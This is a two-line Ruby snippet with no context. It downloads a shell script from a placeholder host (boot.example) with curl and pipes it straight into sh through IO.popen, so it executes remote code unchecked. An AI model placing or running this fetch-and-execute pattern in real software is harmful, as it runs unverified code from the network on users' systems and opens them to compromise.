url = "https://boot.example/s.sh"
IO.popen(["sh", "-c", "curl -s #{url} | sh"]).read
